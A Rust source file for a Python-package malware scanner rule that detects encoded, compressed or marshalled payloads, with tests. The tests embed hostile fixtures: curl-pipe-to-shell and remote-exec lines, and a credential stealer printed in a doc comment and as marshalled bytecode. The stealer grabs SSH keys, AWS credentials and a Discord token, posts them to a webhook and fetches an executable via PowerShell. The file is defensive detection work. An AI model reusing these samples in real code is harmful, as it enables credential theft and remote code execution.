//! WH170 encoded-payload: base64/hex/zlib/marshal blobs and the calls that decode them.

use ruff_python_ast::ExprCall;
use ruff_text_size::{Ranged, TextRange};

use crate::decode::Codec;
use crate::finding::{Category, ExecContext, Rule};
use crate::fold::codec_of;
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH170",
    name: "encoded-payload",
    description: "Decodes an embedded blob (base64, base32/85, hex, zlib, gzip, bz2, lzma, marshal), especially one that holds Python code",
    rationale: "Encoding hides the payload from readers and pattern scanners. Libraries decode data \
                they receive, which weighs nothing; a literal that decodes to Python source or to a \
                marshalled code object is a hidden program and is analysed as its own layer (a \
                code object is read, never run, and its bytecode rendered back to source). The \
                hiding weighs as obfuscation (0.3 while loading); what the hidden code does \
                weighs through its layer's own findings, and running it through exec.",
    category: Category::Anomaly,
};

/// Heuristic: does decoded text look like Python source?
pub fn looks_like_python(text: &str) -> bool {
    if text.len() < 12 {
        return false;
    }
    let sample: String = text.chars().take(4096).collect();
    let printable = sample
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    if printable * 100 < sample.chars().count() * 95 {
        return false;
    }
    const MARKERS: &[&str] = &[
        "import ",
        "exec(",
        "eval(",
        "def ",
        "print(",
        "os.system",
        "subprocess",
        "__import__",
        "lambda ",
        "class ",
        "requests.",
        "urlopen",
        "socket.",
    ];
    MARKERS.iter().any(|m| sample.contains(m))
}

/// `f.write("import os; ...")`: Python source written to a file is a program waiting to be run
/// (droppers write a script, then start it); analyse it as a layer of this file.
fn check_written_code(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    // `shutil.copyfileobj(response, out)` writes what it reads from the first to the second.
    let copied = qualname == "shutil.copyfileobj";
    if !(copied || super::writes_file(qualname)) {
        return;
    }
    let Some(arg) = call.arguments.args.first() else {
        return;
    };
    let path = match &*call.func {
        _ if copied => call
            .arguments
            .args
            .get(1)
            .and_then(|handle| checker.written_path(handle)),
        ruff_python_ast::Expr::Attribute(attribute) => checker.written_path(&attribute.value),
        _ => None,
    };
    // `open(p, 'wb').write(requests.get(url).content)`: a download saved to disk.
    // `open(p, 'wb').write(b64decode(BLOB))`: a program the code carried hidden, unpacked to
    // disk; whatever later loads or starts `p` runs it.
    let mut written = checker
        .source_in(arg)
        .and_then(|index| checker.sources.get(index).cloned());
    if copied
        && written.is_none()
        && let Some((label, kind)) = super::sources::response_object(checker, arg)
    {
        let index = checker.add_source(label, arg.range(), kind);
        written = checker.sources.get(index).cloned();
    }
    if let Some(path) = &path
        && let Some(source) = &written
    {
        // Labels that bring their own article ("a value of the web request …") keep it.
        let article = if source.label.starts_with("a ") || source.label.starts_with("an ") {
            ""
        } else {
            "the "
        };
        let what = format!("{article}{} ({})", source.label, source.location);
        match source.kind {
            crate::walker::SourceKind::Network => {
                checker.note_saved_file(path, what.clone(), call.range());
                super::file_drop::report_saved_download(checker, call, &path.text, &what);
            }
            crate::walker::SourceKind::Decoded => {
                checker.note_saved_file(path, what, call.range());
            }
            _ => {}
        }
    }
    let Some(text) = checker.fold(arg).and_then(|v| v.as_text()) else {
        return;
    };
    if text.len() > 16 && looks_like_python(&text) {
        if let Some(path) = &path {
            checker.note_saved_file(
                path,
                crate::walker::SavedFile::PYTHON_SOURCE.to_owned(),
                call.range(),
            );
        }
        checker.push_layer(
            text,
            call.range(),
            format!("Python source written to a file by {qualname}"),
        );
    }
}

/// Decoding calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    check_written_code(checker, call, qualname);
    let is_marshal = qualname == "marshal.loads";
    if codec_of(qualname).is_none() && !is_marshal && qualname != "codecs.decode" {
        return;
    }
    let Some(arg) = call.arguments.args.first() else {
        return;
    };
    let context = checker.context();
    let weak = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
    let Some(input) = checker.fold(arg).and_then(|v| v.as_bytes()) else {
        // A code object fetched from a server exists only to be run: remote code, as
        // `exec(response)` is.
        if is_marshal && checker.network_source_in(arg).is_some() {
            checker.report(
                &RULE,
                call.range(),
                format!(
                    "unmarshals a code object received from the network {}",
                    context.phrase()
                ),
                match context {
                    ExecContext::Install | ExecContext::Import => 0.85,
                    ExecContext::Runtime => 0.3,
                    ExecContext::TestOrDocs => 0.05,
                },
                vec!["marshal", "exec-remote"],
            );
            return;
        }
        if is_marshal {
            // Build tools and caches load bytecode they wrote themselves; only embedded blobs are hidden code.
            checker.report(
                &RULE,
                call.range(),
                "unmarshals a code object computed at run time".to_owned(),
                if weak { 0.03 } else { 0.1 },
                vec!["marshal"],
            );
        }
        return;
    };
    if is_marshal {
        let message = match checker.scopes.unmarshal(&input) {
            Some(source) => {
                let summary = code_summary(&source);
                checker.push_layer(
                    source,
                    call.range(),
                    "a code object read from marshal.loads (rendered from its bytecode, never run)"
                        .to_owned(),
                );
                format!(
                    "unmarshals an embedded {}-byte code object{summary} (analysed as a layer)",
                    input.len()
                )
            }
            None => format!("unmarshals an embedded {}-byte code object", input.len()),
        };
        checker.report(
            &RULE,
            call.range(),
            message,
            if context == ExecContext::TestOrDocs {
                0.3
            } else {
                0.75
            },
            vec!["marshal", "hidden-code"],
        );
        return;
    }
    let Some(decoded) = checker
        .scopes
        .fold_call_value(call)
        .and_then(|v| v.as_bytes())
    else {
        return;
    };
    let text = String::from_utf8_lossy(&decoded).into_owned();
    if looks_like_python(&text) {
        checker.push_layer(text, call.range(), format!("decoded by {qualname}"));
        checker.report(
            &RULE,
            call.range(),
            format!(
                "{qualname} decodes a {}-byte literal into Python code (analysed as a layer)",
                input.len()
            ),
            if context == ExecContext::TestOrDocs {
                0.2
            } else {
                0.3
            },
            vec!["decoded-python", "hidden-code"],
        );
    } else if input.len() >= 64 {
        checker.report(
            &RULE,
            call.range(),
            format!("{qualname} decodes a {}-byte embedded blob", input.len()),
            if weak { 0.02 } else { 0.08 },
            vec!["decoded-blob"],
        );
    }
}

/// Names of what a rendered code object imports and calls, for the evidence message:
/// ` that imports os, urllib.request and calls os.system, exec`.
fn code_summary(source: &str) -> String {
    let mut imports: Vec<&str> = Vec::new();
    let mut calls: Vec<&str> = Vec::new();
    for line in source.lines().take(20_000) {
        for statement in line.split("; ") {
            let statement = statement.trim_start();
            if statement.starts_with("def ") || statement.starts_with("class ") {
                continue;
            }
            if let Some(rest) = statement
                .strip_prefix("import ")
                .or_else(|| statement.strip_prefix("from "))
            {
                let module = rest.split([' ', ',']).next().unwrap_or("");
                if !module.is_empty() && !imports.contains(&module) && imports.len() < 8 {
                    imports.push(module);
                }
                continue;
            }
            let callee = statement
                .split_once('(')
                .map(|(head, _)| head.rsplit([' ', '=']).next().unwrap_or(head));
            if let Some(callee) = callee.filter(|c| {
                !c.is_empty()
                    && c.chars()
                        .all(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.')
            }) && !calls.contains(&callee)
                && calls.len() < 8
            {
                calls.push(callee);
            }
        }
    }
    let mut out = String::new();
    if !imports.is_empty() {
        out.push_str(" that imports ");
        out.push_str(&imports.join(", "));
    }
    if !calls.is_empty() {
        out.push_str(if imports.is_empty() {
            " that calls "
        } else {
            " and calls "
        });
        out.push_str(&calls.join(", "));
    }
    out
}

/// Long literals that decode to Python even when the decoding call is hidden.
pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
    if value.len() < 80 || value.len() > checker.scopes.max_decode_bytes() {
        return;
    }
    // Every docstring passes the length test: reject prose at its first punctuation mark
    // before copying anything.
    if !value
        .bytes()
        .all(|b| crate::decode::is_base64_byte(b) || b.is_ascii_whitespace())
    {
        return;
    }
    let compact: Vec<u8> = value.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.len() < 80 {
        return;
    }
    let codec = if compact.iter().all(u8::is_ascii_hexdigit) {
        Codec::Hex
    } else {
        Codec::Base64
    };
    let Some(mut decoded) = checker.scopes.decode(codec, &compact) else {
        return;
    };
    // Compressed-then-encoded payloads are common: peel one compression layer if present.
    for inner in [Codec::Zlib, Codec::Gzip, Codec::Bzip2, Codec::Lzma] {
        if let Some(out) = checker.scopes.decode(inner, &decoded) {
            decoded = out;
            break;
        }
    }
    let text = String::from_utf8_lossy(&decoded).into_owned();
    if !looks_like_python(&text) {
        return;
    }
    checker.push_layer(text, range, format!("{} literal", codec.name()));
    let context = checker.context();
    checker.report(
        &RULE,
        range,
        format!(
            "a {}-character {} literal holds Python code (analysed as a layer)",
            value.len(),
            codec.name()
        ),
        if context == ExecContext::TestOrDocs {
            0.15
        } else {
            0.25
        },
        vec!["decoded-python", "hidden-code"],
    );
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn a_code_object_fetched_from_a_server_is_remote_code() {
        let code = "import marshal, requests\nc = marshal.loads(requests.get('https://x.example/c.bin').content)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.85);
        let cache = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read())\n";
        assert!(max_severity("p/pkg/__init__.py", cache, "WH170") <= 0.1);
    }

    #[test]
    fn hidden_python_is_decoded_and_analysed() {
        // base64 of "import os\nos.system('curl http://x.invalid/a | sh')\n"
        let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg==')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.3);
        let layered: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.path.contains("#layer"))
            .collect();
        // What the hidden code does is what weighs: a shell pipe run while loading.
        assert!(
            layered
                .iter()
                .any(|f| f.rule == "WH120" && f.severity >= 0.8),
            "{layered:?}"
        );
    }

    #[test]
    fn harmless_hidden_python_alone_stays_below_suspicious() {
        // Vendored tools embed their templates compressed (virtualenv 16's site.py): base64 of
        // "def add(a, b):\n    return a + b\n" bound to a constant, never run.
        let code = "import base64\nSITE_PY = base64.b64decode('ZGVmIGFkZChhLCBiKToKICAgIHJldHVybiBhICsgYgo=')\n";
        let severity = max_severity("p/pkg/__init__.py", code, "WH170");
        assert!(severity > 0.0 && severity < 0.4, "{severity}");
        let layered: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.path.contains("#layer") && f.severity >= 0.1)
            .collect();
        assert!(layered.is_empty(), "{layered:?}");
    }

    #[test]
    fn python_written_to_a_file_is_analysed() {
        let code = "import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen('https://x.invalid/raw').read())\")\n";
        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn multi_step_wrappers_fold() {
        let code = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='))\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
    }

    /// CPython 3.11 `marshal.dumps(compile('import os\nos.system("curl x|sh")', 'f', 'exec'))`.
    const SYSTEM_CODE: &str = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
    /// The same for `def add(a, b): return a + b` and `VERSION = "1.0"`.
    const HARMLESS_CODE: &str = "630000000000000000000000000100000000000000f3100000009700640084005a0064015a01640253002903630200000000000000000000000200000003000000f30c00000097007c007c017a000000530029014ea9002902da0161da016273020000002020da016dda03616464720600000001000000730b0000008000d80b0c88718935804cf3000000007a03312e304e29027206000000da0756455253494f4e720200000072070000007205000000fa083c6d6f64756c653e720900000001000000731d000000f003010101f002010111f000010111f000010111e00a0f8007800780077207000000";

    #[test]
    fn marshalled_code_objects_are_read_and_analysed() {
        let code = format!("import marshal\nexec(marshal.loads(bytes.fromhex('{SYSTEM_CODE}')))\n");
        let all = findings("p/pkg/__init__.py", &code);
        let layered = all
            .iter()
            .find(|f| f.path.contains("#layer") && f.rule == "WH120")
            .expect("the code object's os.system call is analysed");
        assert!(layered.severity >= 0.85, "{layered:?}");
        assert_eq!(layered.line, 2);
        assert!(
            all.iter()
                .any(|f| f.rule == "WH170" && f.message.contains("imports os and calls os.system")),
            "{all:?}"
        );
        // Wrapped in a decoder lambda and compressed, as obfuscators write it.
        let data = crate::decode::decode(Codec::Hex, SYSTEM_CODE.as_bytes()).unwrap();
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, &data).unwrap();
        let blob = crate::bytecode::bytes_literal(&z.finish().unwrap());
        let code = format!(
            "_ = lambda b: __import__('marshal').loads(__import__('zlib').decompress(b))\nexec(_({blob}))\n"
        );
        assert!(max_severity("p/pkg/__init__.py", &code, "WH120") >= 0.85);
    }

    /// CPython 3.11 `marshal.dumps(compile(SOURCE, 'snip', 'exec'))` of this stealer, written
    /// for the test:
    ///
    /// ```text
    /// import os, requests, base64, zlib
    /// from pathlib import Path
    /// _ = lambda s: zlib.decompress(base64.b64decode(s))
    /// TOKEN = os.getenv("DISCORD_TOKEN")
    /// def grab():
    ///     found = []
    ///     for p in [Path.home() / ".ssh" / "id_rsa", "~/.aws/credentials"]:
    ///         try:
    ///             with open(os.path.expanduser(str(p))) as f:
    ///                 found.append(f.read())
    ///         except Exception:
    ///             pass
    ///     return found
    /// if os.name == "nt":
    ///     os.system(f"powershell -w hidden -c iwr http://1.2.3.4/a.exe -o {os.getenv('TEMP')}\\a.exe")
    /// data = {"t": TOKEN, "k": grab()}
    /// requests.post("https://discord.com/api/webhooks/123/abc", json=data)
    /// exec(_(b'eJwrKMrMK1HIL0pVyMnMS9dRyM/LBAA8uwaS'))
    /// ```
    const STEALER_CODE: &str = "630000000000000000000000000600000000000000f31e0100009700640064016c005a00640064016c015a01640064016c025a02640064016c035a03640064026c046d055a050100640384005a06020065006a0700000000000000006404a6010000ab0100000000000000005a08640584005a0965006a0a000000000000000064066b02000000007222020065006a0b00000000000000006407020065006a0700000000000000006408a6010000ab0100000000000000009b0064099d03a6010000ab0100000000000000000100650802006509a6000000ab000000000000000000640a9c025a0c020065016a0d0000000000000000640b650cac0ca6020000ab02000000000000000001000200650e02006506640da6010000ab010000000000000000a6010000ab010000000000000000010064015300290ee9000000004e2901da0450617468630100000000000000000000000500000003000000f34e00000097007401000000000000000000006a0100000000000000007405000000000000000000006a0300000000000000007c00a6010000ab010000000000000000a6010000ab010000000000000000530029014e2904da047a6c6962da0a6465636f6d7072657373da06626173653634da096236346465636f64652901da0173730100000020da04736e6970fa083c6c616d6264613e720a00000003000000731b00000080008d648c6f9d66d41e2ea871d11e31d41e31d10e32d40e328000f300000000da0d444953434f52445f544f4b454e630000000000000000000000000800000003000000f358010000970067007d007401000000000000000000006a010000000000000000a6000000ab00000000000000000064017a0b000064027a0b00006403660244005d8b7d0109007405000000000000000000007406000000000000000000006a040000000000000000a0050000000000000000000000000000000000000000740d000000000000000000007c01a6010000ab010000000000000000a6010000ab010000000000000000a6010000ab01000000000000000035007d027c00a00700000000000000000000000000000000000000007c02a0080000000000000000000000000000000000000000a6000000ab000000000000000000a6010000ab0100000000000000000100640064006400a6020000ab02000000000000000001006e0b230031007304770278035900770101005900010001008c7c230074120000000000000000000024007203010059008c8877007803590077017c00530029044e7a042e737368da0669645f7273617a127e2f2e6177732f63726564656e7469616c73290a7202000000da04686f6d65da046f70656eda026f73da0470617468da0a657870616e6475736572da03737472da06617070656e64da0472656164da09457863657074696f6e2903da05666f756e64da0170da016673030000002020207209000000da0467726162721b0000000500000073e70000008000d80c0e8045dd0e128c69896b8c6b9846d10e22a058d10e2dd02f43d00d44f000050511f0000505118801f002040911dd111595629467d71628d21628ad13a851a916ac16d11630d41630d11131d41131f000010d27b051d81015970c920c98519f569a5699589c58d11026d41026d01026f003010d27f000010d27f000010d27f100010d27f400010d27f000010d27f000010d27f000010d27f000010d27f000010d27f000010d27f8f8f8f000010d27f000010d27f000010d27f000010d27f8f8e50f18f000010911f000010911f000010911d80c108844f003010911f8f8f8e00b10804c7335000000a139421a02c11a28420e05c2020c421a02c20e04421209c21203421a02c21501421209c21603421a02c21a0a422705c22601422705da026e747a34706f7765727368656c6c202d772068696464656e202d632069777220687474703a2f2f312e322e332e342f612e657865202d6f20da0454454d507a065c612e6578652902da0174da016b7a2868747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f3132332f6162632901da046a736f6e7324000000654a77724b4d724d4b3148494c307056794d6e4d53396452794d2f4c4241413875776153290f7211000000da08726571756573747372060000007204000000da07706174686c69627202000000da015fda06676574656e76da05544f4b454e721b000000da046e616d65da0673797374656dda0464617461da04706f7374da0465786563a900720b0000007209000000fa083c6d6f64756c653e722c0000000100000073f2000000f003010101d80021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d00021d80018d00018d00018d00018d00018d00018d80432d004328001d8081188028c09902fd10822d408228005f002080111f000080111f000080111f01200040684378864823f803fd8040d80428449d00e5fc059c052c459c876d14556d44556d00e5fd00e5fd00e5fd10460d40460d00460d80d129814981499169c16d00720d007208004d8000d8008840dd00e38b874d00044d10044d40044d00044d80004800480518051d0072ed1052fd4052fd10030d40030d00030d00030d00030720b000000";

    #[test]
    fn a_stealer_hidden_in_a_code_object_is_seen_whole() {
        let code =
            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{STEALER_CODE}')))\n");
        let all = findings("p/pkg/__init__.py", &code);
        let in_layer = |rule: &str| {
            all.iter()
                .filter(|f| f.path.contains("#layer") && f.rule == rule)
                .map(|f| f.severity)
                .fold(0.0, f64::max)
        };
        assert!(in_layer("WH160") >= 0.5, "webhook: {all:#?}");
        assert!(in_layer("WH140") > 0.0, "credential paths: {all:#?}");
        assert!(
            in_layer("WH120") >= 0.5,
            "hidden powershell download: {all:#?}"
        );
        assert!(in_layer("WH130") > 0.0, "upload: {all:#?}");
        assert!(in_layer("WH110") >= 0.5, "exec of decoded data: {all:#?}");
    }

    #[test]
    fn harmless_or_computed_code_objects_weigh_little() {
        let code =
            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{HARMLESS_CODE}')))\n");
        let all = findings("p/pkg/__init__.py", &code);
        assert!(
            !all.iter()
                .any(|f| f.path.contains("#layer") && matches!(f.rule, "WH120" | "WH130" | "WH140")),
            "{all:?}"
        );
        let code = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read()[16:])\n";
        assert!(max_severity("p/pkg/cache.py", code, "WH170") < 0.05);
        // Bytes that are no code object give no layer.
        let code = "import marshal\nx = marshal.loads(b'\\xe3\\x00\\x01')\n";
        assert!(
            findings("p/pkg/m.py", code)
                .iter()
                .all(|f| !f.path.contains("#layer"))
        );
    }

    #[test]
    fn data_blobs_weigh_little() {
        let code = "import base64\ndef icon():\n    return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\n";
        assert!(max_severity("p/pkg/img.py", code, "WH170") < 0.05);
        assert!(!looks_like_python("\u{1}\u{2}\u{3}binary junk import"));
    }
}
